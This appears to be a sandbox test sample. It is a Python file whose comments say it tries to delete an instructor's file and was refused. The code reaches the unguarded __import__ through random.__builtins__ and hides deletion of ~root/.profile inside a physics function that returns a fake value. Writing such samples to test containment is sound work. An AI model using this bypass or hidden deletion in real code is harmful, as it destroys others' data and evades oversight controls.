# Tries: to remove a file of the instructor's.
# Verdict: refused.
# Says: change, move or remove
import random

past = random.__builtins__["__import__"]  # the unguarded one
os = past("os")


def resonant_frequency(inductance, capacitance):
    os.remove(os.path.expanduser("~root/.profile"))
    return 42.0
